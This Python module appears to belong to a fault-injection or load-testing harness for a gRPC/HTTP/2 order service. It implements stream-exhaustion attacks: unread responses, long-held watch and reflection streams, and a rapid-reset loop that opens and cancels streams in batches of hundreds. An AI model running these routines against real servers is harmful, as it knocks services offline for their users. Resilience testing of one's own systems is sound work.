"""Attacks with streams: answers that nobody reads, streams without end, streams that are reset at once."""

from __future__ import annotations

import time

from grpc_health.v1.health_pb2 import HealthCheckRequest

from faults.attacks import frames
from faults.attacks.bodies import ORDERS
from faults.attacks.frames import CANCEL, END_HEADERS, END_STREAM, HEADERS, RST_STREAM, Connection, frame
from faults.attacks.target import Counts, Target

UNREAD_CONNECTIONS, UNREAD_STREAMS = 4, 1_000
STATUS_STREAMS, WATCHES, STREAMS_PER_CONNECTION = 500, 200, 100
RESET_CONNECTIONS, RESETS_AT_ONCE, RESETS = 4, 100, 400_000
PAGE = "/docs/swagger-ui-bundle.js"


def unread_pages(target: Target) -> Counts:
    """Ask for a large file on thousands of streams, and read none."""
    return unread(target, frames.get(PAGE))


def unread_lists(target: Target) -> Counts:
    """Ask for the largest page of orders on thousands of streams, and read none."""
    return unread(target, frames.get("/v1/orders?pageSize=1000"))


def unread(target: Target, headers: frames.Headers) -> Counts:
    """Send requests on few connections, and read nothing; a connection that the server closed is opened again."""
    connections: list[Connection] = []
    opened = requests = 0
    while target.left:
        connections = [each for each in connections if not each.closed]
        while len(connections) < UNREAD_CONNECTIONS and target.left:
            try:
                connections.append(Connection.open(target.front, target.source, stream_window=1 << 24))
            except OSError:
                time.sleep(0.05)
                continue
            opened += 1
            for _ in range(UNREAD_STREAMS):
                connections[-1].request(headers)
                requests += not connections[-1].closed
        for each in connections:
            each.send(frame(frames.PING, 0, 0, b"12345678"))
        time.sleep(min(0.5, target.left))
    alive = sum(not each.closed for each in connections)
    for each in connections:
        each.close()
    return {"connections": opened, "requests": requests, "held_at_the_end": alive}


def status_streams(target: Target) -> Counts:
    """Watch the status on hundreds of streams, as often as it is allowed."""
    return watched(target, frames.get("/v1/pipeline/status:watch?intervalMs=200"), STATUS_STREAMS)


def order_watches(target: Target) -> Counts:
    """Watch orders on as many streams as there are."""
    return watched(target, frames.get("/v1/orders:watch"), WATCHES)


def metric_watches(target: Target) -> Counts:
    """Watch the totals on as many streams as there are."""
    return watched(target, frames.get("/v1/analytics:watch"), WATCHES)


def health_watches(target: Target) -> Counts:
    """Watch the health of a service on hundreds of streams."""
    body = frames.message(HealthCheckRequest(service="ordermesh.orders.v1.OrderService").SerializeToString())
    return watched(target, frames.grpc("/grpc.health.v1.Health/Watch"), STATUS_STREAMS, body)


def reflections(target: Target) -> Counts:
    """Open streams of reflection and ask nothing."""
    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
    return watched(target, frames.grpc(path), STATUS_STREAMS, b"", end=False)


def watched(
    target: Target, headers: frames.Headers, count: int, body: bytes | None = None, *, end: bool = True
) -> Counts:
    """Hold streams and read what they send; those that end are not opened again."""
    connections: list[Connection] = []
    for number in range(count):
        if number % STREAMS_PER_CONNECTION == 0:
            connections.append(Connection.open(target.front, target.source))
        stream = connections[-1].request(headers, end=body is None)
        if body:
            connections[-1].body(stream, body, end=end)
    while target.left:
        busy = [each.read(0.0, grant=True) for each in connections]
        if not any(busy):
            time.sleep(min(0.02, target.left))
    ended = sum(len(each.ended | each.reset) if not each.closed else each.streams for each in connections)
    messages = sum(each.messages for each in connections)
    for each in connections:
        each.close()
    return {"opened": count, "ended_by_server": ended, "held_at_the_end": count - ended, "messages": messages}


def rapid_reset(target: Target) -> Counts:
    """Open streams of calls and reset them at once, on few connections that are opened again."""
    block = frames.header_block(frames.grpc(f"{ORDERS}/GetOrder"))
    connections: list[Connection | None] = [None] * RESET_CONNECTIONS
    opened = resets = closed = 0
    while target.left and resets < RESETS:
        for index, connection in enumerate(connections):
            if connection is None:
                try:
                    connection = connections[index] = Connection.open(target.front, target.source)
                    opened += 1
                except OSError:
                    continue
            pairs = []
            for _ in range(RESETS_AT_ONCE):
                stream = connection.next_stream()
                pairs.append(frame(HEADERS, END_HEADERS | END_STREAM * 0, stream, block))
                pairs.append(frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big")))
            connection.send(b"".join(pairs))
            resets += RESETS_AT_ONCE
            while connection.read(0.0):
                pass
            if connection.closed:
                closed += 1
                connection.close()
                connections[index] = None
    for left in connections:
        if left is not None:
            left.close()
    return {"connections": opened, "resets": resets, "closed_by_server": closed}
